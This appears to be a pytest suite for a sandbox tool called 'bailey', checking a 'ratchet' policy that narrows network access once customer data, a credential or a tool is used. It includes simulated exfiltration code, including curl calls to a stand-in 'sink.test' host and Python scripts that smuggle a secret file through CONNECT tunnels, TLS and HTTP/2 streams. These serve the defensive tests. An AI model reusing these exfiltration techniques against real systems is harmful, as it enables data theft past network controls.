# SPDX-License-Identifier: Apache-2.0
"""The ratchet: what closes it is shown only when the doors are narrower, and nothing that was read after it gets out."""
import json
import pathlib
import secrets
import shutil

import pytest

from conftest import program
from kit.h2 import H2Server
from kit.process import SLOW, wait_until

ATTACK = pathlib.Path(__file__).parent / "kit/ratchet_attack.py"
WAYS = ["open", "vector", "map", "child", "directory", "link", "hard_link", "rename", "moved_directory", "exchange", "proc", "write_only",
        "path_descriptor", "sendfile"]


def swallow(sock, connection):
    """Takes whatever comes; answers requests so that connections are kept."""
    while data := sock.recv(65536):
        connection.received += data
        if data.startswith(b"GET "):
            sock.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")


@pytest.fixture
def sink(make_origin):
    return make_origin(raw=swallow)


@pytest.fixture
def ratchet(bailey, start, home, work, sink, origin):
    """ratchet(rules, argv): a run where sink.test and kept.test are allowed, and the rules hold."""
    hosts, file, audit = home / "ratchet-hosts", home / "policy.yaml", home / "audit.jsonl"
    hosts.write_text("127.0.0.1 sink.test kept.test other.test\n")
    both = [f"{name}:{o.port}" for name, o in (("sink.test", sink), ("kept.test", origin))]

    def run(rules, *argv, wait=True, check=True, options=(), redirected=None, **policy):
        file.write_text(json.dumps({"network": {"allow": ["*.sink.test", *both], "allow_private": both, **policy.pop("network", {})},
                                    "ratchet": rules, **policy}))
        audit.unlink(missing_ok=True)
        words = ["run", "--policy", str(file), "--hosts", str(hosts), "--audit", str(audit), *options, "--", *map(str, argv)]
        if not wait:
            return start(["bailey", *words], cwd=work)
        done = bailey(*words, cwd=work, timeout=60 * SLOW) if not redirected else \
            start(["sh", "-c", f'exec "$0" "$@" < {redirected}', program("bailey"), *words], cwd=work).wait(60 * SLOW)
        done.records = [json.loads(line) for line in audit.read_text().splitlines()] if audit.exists() else []
        return done.check() if check else done
    return run


@pytest.fixture
def secret(work):
    (work / "data").mkdir()
    text = "s" + secrets.token_hex(16)
    (work / "data/customers.csv").write_text(text + "\n")
    return text


def closing(*reads, **then):
    return [{"when": {"read": list(reads)}, "then": {"allow": ["kept.test"], "say": "customer data was read", **then}}]


@pytest.mark.parametrize("way", WAYS)
def test_nothing_that_was_read_gets_out(ratchet, work, sink, secret, way):
    shutil.copy(ATTACK, work)
    done = ratchet(closing("data/**"), "/usr/bin/python3", "ratchet_attack.py", way, work / "data/customers.csv", sink.port)
    assert f"read: {secret}" in done.text, done
    received = sink.received()
    assert b"harmless" in received and secret.encode() not in received
    (closed,) = [r for r in done.records if r["kind"] == "ratchet"]
    assert closed["detail"] == "customer data was read" and closed["path"].startswith(str(work / "data"))
    refused = [r for r in done.records if r.get("reason") == "ratchet" and r["kind"] != "ratchet"]
    assert {r["domain"] for r in refused} >= {"sink.test"} and closed["detail"] in {r.get("because") for r in refused}, refused
    assert not [r for r in done.records if secret in json.dumps(r) and r.get("allowed")]


@pytest.mark.parametrize("pattern", ["data", "data/**", "**/*.csv", "{work}/data/customers.csv", "linked/**"])
def test_patterns(ratchet, work, sink, secret, pattern):
    (work / "linked").symlink_to("data")
    script = f"cat data/customers.csv; curl -s -o /dev/null -w '%{{http_code}}' -m 20 http://sink.test:{sink.port}/"
    done = ratchet(closing(pattern.format(work=work)), "sh", "-c", script, check=False)
    assert done.text == f"{secret}\n403" and sink.received() == b"", done


def test_what_is_not_marked_closes_nothing(ratchet, work, sink, origin, secret):
    (work / "other.csv.txt").write_text("x")
    script = (f"cat other.csv.txt; ls data; : > data/new.csv; : > data/customers.csv; curl -s -m 20 http://sink.test:{sink.port}/; "
              f"curl -s -m 20 http://kept.test:{origin.port}/")
    done = ratchet(closing("**/*.csv"), "sh", "-c", script)
    assert not [r for r in done.records if r["kind"] == "ratchet"] and "origin" in done.text


def test_what_stays_stays_and_what_was_refused_is_not_opened(ratchet, work, origin, secret):
    script = (f"cat data/customers.csv; curl -s -m 20 http://kept.test:{origin.port}/; "
              f"curl -s -o /dev/null -w '%{{http_code}}' -m 20 http://other.test:{origin.port}/")
    done = ratchet(closing("data/**", allow=["kept.test", "other.test"]), "sh", "-c", script)
    assert "origin" in done.text and done.text.endswith("403")


def test_two_ratchets_leave_what_both_leave(ratchet, work, sink, origin, secret):
    (work / "second").write_text("x")
    rules = closing("data/**", allow=["kept.test", "sink.test"]) + closing("second", allow=["*.other.test", "kept.test", "sink.test"])
    both = f"for o in sink.test:{sink.port} kept.test:{origin.port}; do curl -s -o /dev/null -w '%{{http_code}} ' -m 20 http://$o/; done; "
    done = ratchet(rules, "sh", "-c", both + "cat data/customers.csv >/dev/null; " + both + "cat second >/dev/null; " + both)
    assert done.text.split() == ["200"] * 6, done
    rules = closing("data/**", allow=["kept.test", "sink.test"]) + closing("second", allow=["kept.test"])
    done = ratchet(rules, "sh", "-c", both + "cat data/customers.csv >/dev/null; " + both + "cat second >/dev/null; " + both)
    assert done.text.split() == ["200"] * 4 + ["403", "200"], done


def test_a_redirected_file_closes_it_at_launch(ratchet, work, sink, secret):
    script = f"curl -s -o /dev/null -w '%{{http_code}}' -m 20 http://sink.test:{sink.port}/; cat"
    assert ratchet(closing("data/**"), "sh", "-c", script, redirected=work / "data/customers.csv").text == f"403{secret}\n"


def test_reaching_a_host(ratchet, sink, origin):
    """The connection is made when the ratchet has closed; the host itself may be among what is taken away."""
    rules = [{"when": {"reach": ["kept.test"]}, "then": {"allow": ["kept.test"]}}]
    both = f"for o in sink.test:{sink.port} kept.test:{origin.port} sink.test:{sink.port}; do curl -s -o /dev/null -w '%{{http_code}} ' -m 20 http://$o/; done"
    done = ratchet(rules, "sh", "-c", both)
    assert done.text.split() == ["200", "200", "403"], done
    (closed,) = [r for r in done.records if r["kind"] == "ratchet"]
    assert closed["path"].startswith("kept.test") and closed["method"] == "reach"
    rules = [{"when": {"reach": ["kept.test"]}, "then": {"allow": "none"}}]
    assert ratchet(rules, "sh", "-c", both).text.split() == ["200", "403", "403"]


@pytest.fixture
def tokens(ratchet, make_origin, authority, home, sink):
    """tokens(rules, script): a credential `own` for kept.test and `other` for other.test, one server with TLS. `own`, `other`, `plain` (to
    kept.test, without one) and `away` (to the sink) print a status, of the proxy's where it comes to none."""
    server = make_origin(tls=authority.context("kept.test", "other.test"))
    entries, places = [], [f"kept.test:{server.port}", f"other.test:{server.port}", f"sink.test:{sink.port}"]
    shell = ("get() { set -- $(curl -s -o /dev/null -w '%{http_code} %{http_connect}' -m 20 \"$@\"); [ $1 = 000 ] && shift; echo $1; }; "
             f"plain() {{ get https://{places[0]}/; }}; away() {{ get http://{places[2]}/; }}; ")
    for name, place in zip(("own", "other"), places):
        (home / name).write_text(f"real-{name}-value")
        entries.append({"name": name, "env": name.upper(), "source": f"file:{home / name}", "hosts": [place], "slot": "bearer"})
        shell += f"{name}() {{ get -H \"Authorization: Bearer ${name.upper()}\" https://{place}/; }}; "

    def run(rules, script):
        done = ratchet(rules, "sh", "-c", shell + script, options=["--ca-bundle", str(authority.file)], check=False,
                       network={"allow": places, "allow_private": places}, credentials=entries)
        done.sent = [next((name for name in ("own", "other") if b"Bearer real-%s-value" % name.encode() in request), "none") for request in server.requests()]
        return done
    return run


def test_using_a_credential(tokens):
    """Its host is reached when the ratchet has closed; the host of another one closes nothing."""
    rules = [{"when": {"credential": ["own"]}, "then": {"allow": ["kept.test"], "say": "the token was used"}}]
    done = tokens(rules, "away; other; away; own; away; other; own")
    assert done.text.split() == ["200"] * 4 + ["403", "403", "200"] and done.sent == ["other", "own", "own"], (done, done.sent)
    (closed,) = [r for r in done.records if r["kind"] == "ratchet"]
    assert closed["path"].startswith("kept.test") and closed["detail"] == "the token was used", closed


def test_using_a_credential_may_take_its_own_host_away(tokens):
    done = tokens([{"when": {"credential": ["own"]}, "then": {"allow": "none"}}], "other; own; plain; other")
    assert done.text.split() == ["200", "403", "403", "403"] and done.sent == ["other"], (done, done.sent)


def test_people_see_it(ratchet, bailey, start, work, sink, secret):
    """`bailey ps` and `bailey events` while it runs, and whoever is refused, in the answer itself."""
    events = start(["bailey", "events", "-f", "--json"])
    script = f"while ! test -e go; do sleep 0.05; done; cat data/customers.csv; curl -s -D head -o body -m 20 http://sink.test:{sink.port}/; touch refused; sleep 60"
    child = ratchet(closing("data/**"), "sh", "-c", script, wait=False)
    running = wait_until(lambda: json.loads(bailey("ps", "--json").check().text), 30 * SLOW, "the run")[0]["sandbox"]
    wait_until(lambda: bailey("allow", "marker.example", "--sandbox", running).check() and b"marker.example" in events.output(), 30 * SLOW, "somebody who follows events")
    assert "narrowed" not in bailey("ps").text
    (work / "go").touch()

    wait_until(lambda: "narrowed" in bailey("ps").text, 30 * SLOW, "the ratchet")
    assert json.loads(bailey("ps", "--json").text)[0]["ratchets"][0]["say"] == "customer data was read"
    wait_until(lambda: (work / "refused").exists(), 30 * SLOW, "the refusal")
    body, head = (work / "body").read_text(), (work / "head").read_text()
    assert "403" in head.splitlines()[0] and "x-bailey-reason: ratchet" in head.lower() and "customer data was read" in body, (head, body)
    child.stop()
    seen = wait_until(lambda: b"customer data was read" in events.output() and events.output(), 30 * SLOW, "the event").decode()
    assert '"ratchet"' in seen and str(work / "data/customers.csv") in seen and secret not in seen, seen


@pytest.mark.parametrize("rules, says", [
    ([{"when": {"read": ["x"]}, "then": {"say": "x"}}], "an effect"),
    ([{"then": {"allow": ["a.test"]}}], "a trigger"),
    ([{"when": {"reed": ["x"]}, "then": {"allow": ["a.test"]}}], "did you mean"),
    ([{"when": {"tool": ["nosuch x"]}, "then": {"allow": ["a.test"]}}], "no tool"),
    ([{"when": {"credential": ["nosuch"]}, "then": {"allow": ["a.test"]}}], "no credential"),
    ([{"when": {"read": ["x"]}, "then": {"ask": "control"}}], "somebody who can be asked"),
    ([{"when": {"read": ["x"]}, "then": {"allow": ["none", "a.test"]}}], "alone"),
])
def test_bad_policies_are_named(bailey, home, work, rules, says):
    file = home / "policy.yaml"
    file.write_text(json.dumps({"ratchet": rules}))
    done = bailey("policy", "check", "--policy", str(file), cwd=work)
    assert done.status != 0 and says in done.errors + done.text and "policy.yaml:1" in done.errors + done.text, done


@pytest.mark.parametrize("then, says", [
    ({"git": "none", "tools": ["git"]}, "the tool git stays, and 'git: none'"), ({"credentials": "none", "tools": ["gh"]}, "the tool gh stays, and 'credentials: none'"),
    ({"git": "none", "tools": ["own"]}, None), ({"credentials": "none", "tools": ["own"]}, None), ({"allow": "none", "tools": ["git", "gh"]}, None)])
def test_a_tool_that_stays_has_what_it_works_with(bailey, home, work, then, says):
    file = home / "policy.yaml"
    tools = {"git": {"repos": ["git.test/acme/app"]}, "gh": {"repos": ["git.test/acme/app"], "credentials": ["github"]}, "own": {"program": "/bin/true", "verbs": ["show"]}}
    file.write_text(json.dumps({"bridge": tools, "ratchet": [{"when": {"read": ["x"]}, "then": then}]}))
    done = bailey("policy", "check", "--policy", str(file), cwd=work)
    assert (done.status == 0) == (says is None), done
    assert not says or (says in done.errors + done.text and "policy.yaml:1:" in done.errors + done.text), done


def test_why_says_it_without_running(bailey, home, work, secret):
    file = home / "policy.yaml"
    file.write_text(json.dumps({"network": {"allow": ["sink.test", "kept.test"]}, "ratchet": closing("data/**")}))
    path = bailey("why", "--policy", str(file), str(work / "data/customers.csv"), cwd=work).text
    assert "opening it closes a ratchet: customer data was read" in path and "policy.yaml:1" in path
    assert "once a ratchet has closed" in bailey("why", "--policy", str(file), "sink.test", cwd=work).text
    assert "ratchet" not in bailey("why", "--policy", str(file), "kept.test", cwd=work).text
    assert "narrows the network when opened" in bailey("plan", "--policy", str(file), "--", "true", cwd=work).text


def test_a_port_of_the_host_is_a_door(ratchet, work, sink, secret):
    """Open while nothing was read; then its connection is closed, and no other is made."""
    script = ("import socket, sys; s = socket.create_connection(('127.0.0.1', int(sys.argv[1]))); s.sendall(b'GET before'); s.recv(99); "
              "box = open('data/customers.csv', 'rb').read()\n"
              "for i in range(50):\n"
              "    try:\n        s.sendall(box)\n"
              "    except OSError:\n        pass\n"
              "    try:\n        s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n"
              "    except OSError:\n        pass\n")
    ratchet(closing("data/**"), "/usr/bin/python3", "-c", script, sink.port, options=["--host-port", str(sink.port)])
    assert b"before" in sink.received() and secret.encode() not in sink.received()


def test_a_person_is_asked_instead(ratchet, bailey, work, sink, secret):
    """What was open without a question, and what was agreed to before, is asked about anew."""
    rules = [{"when": {"read": ["data/**"]}, "then": {"allow": ["kept.test"], "ask": "control"}}]
    get = f"curl -s -o /dev/null -w '%{{http_code}} ' -m 60 http://sink.test:{sink.port}/; "
    child = ratchet(rules, "sh", "-c", get + "cat data/customers.csv >/dev/null; " + get, wait=False, network={"ask": "control"})
    wait_until(lambda: f"sink.test:{sink.port}" in bailey("pending").text, 30 * SLOW)
    bailey("allow", f"sink.test:{sink.port}", "--scope", "once").check()
    assert child.wait(60 * SLOW).text.split() == ["200", "200"]


TOOL = """#!/bin/sh
case $1 in
show) echo shown;;
send) cat > %(out)s;;
slow) echo ready; exec sleep 60;;
esac
"""


@pytest.mark.visible_home
def test_tools(ratchet, home, work, sink):
    """A call that is a trigger runs when it has closed, without input; another tool that does not stay is ended first."""
    tool, out = home / "outside" / "tool", home / "work" / "sent"
    tool.parent.mkdir()
    tool.write_text(TOOL % {"out": out})
    tool.chmod(0o755)
    entry = {"program": str(tool), "verbs": ["show", "send", "slow"]}
    rules = [{"when": {"tool": ["tool show"]}, "then": {"allow": ["kept.test"], "say": "the tool has shown something"}}]
    get = f"curl -s -o /dev/null -w '%{{http_code}}' -m 20 http://sink.test:{sink.port}/"
    script = (f"{get}; echo; other slow > log 2>&1 & other=$!; sleep 2; tool show; {get}; echo; wait $other; echo other ended with $?; cat log; "
              "tool show 2>&1; echo status $?")
    done = ratchet(rules, "bash", "-c", script, bridge={"tool": entry, "other": entry}, check=False)
    lines = done.text.split("\n")
    assert lines[:3] == ["200", "shown", "403"], done
    assert "other ended with 125" in done.text and "the tool has shown something" in done.text and "status 0" not in done.text, done
    (closed,) = [r for r in done.records if r["kind"] == "ratchet"]
    assert closed["method"] == "tool" and closed["path"] == "tool show"


@pytest.mark.visible_home
def test_a_tool_that_sees_the_workspace_counts_as_a_reader(ratchet, home, work, sink, secret):
    tool = home / "outside" / "tool"
    tool.parent.mkdir()
    tool.write_text("#!/bin/sh\ncat data/customers.csv\n")
    tool.chmod(0o755)
    entry = {"program": str(tool), "verbs": ["show"], "workspace": "read"}
    script = f"tool show; curl -s -o /dev/null -w '%{{http_code}}' -m 20 http://sink.test:{sink.port}/"
    assert ratchet(closing("data/**"), "sh", "-c", script, bridge={"tool": entry}, check=False).text.endswith("403")


def test_credentials_and_git_are_taken_away(tokens, secret):
    rules = [{"when": {"read": ["data/**"]}, "then": {"credentials": "none", "git": "none"}}]
    done = tokens(rules, "own; other; cat data/customers.csv >/dev/null; own; other; plain; away")
    assert done.text.split() == ["200", "200", "403", "403", "200", "200"] and done.sent == ["own", "other", "none"], (done, done.sent)


TLS_ATTACK = """
import socket, ssl, sys, threading, time
port, intercepted = int(sys.argv[1]), sys.argv[2] == "open"
box, stop, first = [b"harmless"], time.monotonic() + 20, threading.Event()
def send():
    while time.monotonic() < stop:
        try:
            s = socket.create_connection(("127.0.0.1", 3128), 5)
            s.sendall(b"CONNECT sink.test:%d HTTP/1.1\\r\\nHost: sink.test:%d\\r\\n\\r\\n" % (port, port))
            if b" 200 " not in s.recv(4096).split(b"\\r\\n")[0]:
                raise OSError("refused")
            context = ssl.create_default_context(cafile=None if intercepted else sys.argv[3])
            t = context.wrap_socket(s, server_hostname="sink.test")
            t.settimeout(2)
            t.sendall(b"GET / HTTP/1.1\\r\\nHost: sink.test:%d\\r\\n\\r\\n" % port)
            if b" 200 " not in t.recv(4096).split(b"\\r\\n")[0]:
                raise OSError("refused")
            t.sendall(b"POST / HTTP/1.1\\r\\nHost: sink.test:%d\\r\\nContent-Length: 999999999\\r\\n\\r\\n" % port)
            while time.monotonic() < stop:
                t.sendall(b"<" + box[0] + b">")
                first.set()
        except OSError:
            time.sleep(0.002)
threads = [threading.Thread(target=send, daemon=True) for _ in range(3)]
for thread in threads: thread.start()
assert first.wait(20), "no tunnel"
time.sleep(0.5)  # so that something harmless has arrived
stop = time.monotonic() + 1.5
box[0] = open("data/customers.csv", "rb").read().strip()
for thread in threads: thread.join()
print("read:", box[0].decode())
"""


@pytest.mark.parametrize("how", ["closed", "open"])
def test_tls_that_is_open_at_the_moment(bailey, make_origin, authority, home, work, secret, how):
    """Tunnels with TLS inside, passed through (closed) and intercepted (open, since a credential is for the host)."""
    sink = make_origin(raw=swallow, tls=authority.context("sink.test"))
    (work / "attack.py").write_text(TLS_ATTACK)
    (work / "roots.pem").write_bytes(authority.file.read_bytes())
    (home / "token").write_text("real-secret-value")
    (home / "hosts").write_text("127.0.0.1 sink.test\n")
    where, file, audit = f"sink.test:{sink.port}", home / "policy.yaml", home / "audit.jsonl"
    policy = {"network": {"allow": [where], "allow_private": [where]}, "ratchet": closing("data/**")}
    if how == "open":
        policy["credentials"] = [{"name": "own", "env": "TOKEN", "source": f"file:{home / 'token'}", "hosts": [where], "slot": "bearer"}]
    file.write_text(json.dumps(policy))
    done = bailey("run", "--policy", str(file), "--hosts", str(home / "hosts"), "--ca-bundle", str(authority.file), "--audit", str(audit), "--",
                  "/usr/bin/python3", "attack.py", str(sink.port), how, "roots.pem", cwd=work, timeout=60 * SLOW).check()
    assert f"read: {secret}" in done.text, done
    received = sink.received()
    assert b"harmless" in received and secret.encode() not in received
    assert [r for r in map(json.loads, audit.read_text().splitlines()) if r.get("reason") == "ratchet" and r["kind"] != "ratchet"]


H2_ATTACK = """
import socket, ssl, sys, threading, time
import h2.exceptions
from peer import H2Client
port = int(sys.argv[1])
box, stop, first = [b"harmless"], time.monotonic() + 20, threading.Event()
def send():
    while time.monotonic() < stop:
        try:
            s = socket.create_connection(("127.0.0.1", 3128), 5)
            s.sendall(b"CONNECT sink.test:%d HTTP/1.1\\r\\nHost: sink.test:%d\\r\\n\\r\\n" % (port, port))
            if b" 200 " not in s.recv(4096).split(b"\\r\\n")[0]:
                raise OSError("refused")
            context = ssl.create_default_context()
            context.set_alpn_protocols(["h2"])
            client = H2Client(context.wrap_socket(s, server_hostname="sink.test"), f"sink.test:{port}")
            assert client.ask("/first").status == 200
            body = client.open("/body", "POST", end=False)
            while time.monotonic() < stop:
                client.send(body, b"<" + box[0] + b">", end=False)
                if client.ask("/path?" + box[0].decode(), headers=[("x-box", box[0].decode())]).status == 200:
                    first.set()
        except (OSError, AssertionError, h2.exceptions.ProtocolError):
            time.sleep(0.002)
threads = [threading.Thread(target=send, daemon=True) for _ in range(3)]
for thread in threads: thread.start()
assert first.wait(20), "no stream"
stop = time.monotonic() + 1.5
box[0] = open("data/customers.csv", "rb").read().strip()
for thread in threads: thread.join()
print("read:", box[0].decode())
"""


def test_streams_that_are_open_at_the_moment(bailey, make_origin, authority, home, work, secret):
    """HTTP/2: a body that goes on, and requests that begin, on connections from before."""
    arrived, where_from = [], pathlib.Path(__file__).with_name("kit") / "h2.py"

    def take(server, number, headers):
        arrived.append(repr(headers))
        if headers[":path"] != "/body":
            server.respond(number, end=True)
        arrived.extend(bytes(piece).decode() for piece in server.receive(number))
    sink = make_origin(raw=H2Server(take), tls=authority.context("sink.test", alpn=("h2", "http/1.1")))
    (work / "attack.py").write_text(H2_ATTACK)
    (work / "peer.py").write_bytes(where_from.read_bytes())
    (home / "token").write_text("real-secret-value")
    (home / "hosts").write_text("127.0.0.1 sink.test\n")
    where, file, audit = f"sink.test:{sink.port}", home / "policy.yaml", home / "audit.jsonl"
    file.write_text(json.dumps({"network": {"allow": [where], "allow_private": [where]}, "ratchet": closing("data/**"), "credentials": [
        {"name": "own", "env": "TOKEN", "source": f"file:{home / 'token'}", "hosts": [where], "slot": "bearer"}]}))
    done = bailey("run", "--policy", str(file), "--hosts", str(home / "hosts"), "--ca-bundle", str(authority.file), "--audit", str(audit), "--",
                  "/usr/bin/python3", "attack.py", str(sink.port), cwd=work, timeout=60 * SLOW).check()
    assert f"read: {secret}" in done.text, done
    assert "<harmless>" in "".join(arrived) and any("harmless" in text and ":path" in text for text in arrived)
    assert not [text for text in arrived if secret in text] and secret not in "".join(text for text in arrived if ":path" not in text)
    assert [r for r in map(json.loads, audit.read_text().splitlines()) if r.get("reason") == "ratchet" and r["kind"] != "ratchet"]


def test_a_file_that_was_open_before_the_launch(ratchet, start, home, work, sink, secret):
    """A descriptor beyond the standard ones does not come in, and a standard one closes the ratchet before the command runs."""
    file, hosts = home / "policy.yaml", home / "ratchet-hosts"
    ratchet(closing("data/**"), "true")  # writes the policy
    get = f"curl -s -o /dev/null -w '%{{http_code}}' -m 20 http://sink.test:{sink.port}/"
    done = start(["sh", "-c", f'exec "$0" run --policy {file} --hosts {hosts} -- sh -c "cat <&7 2>/dev/null; {get}" 7< data/customers.csv', program("bailey")],
                 cwd=work).wait(60 * SLOW)
    assert done.text == "200", done
    done = start(["sh", "-c", f'exec "$0" run --policy {file} --hosts {hosts} -- sh -c "head -1 <&2; {get}" 2<> data/customers.csv', program("bailey")],
                 cwd=work).wait(60 * SLOW)
    assert done.text.endswith("403"), done
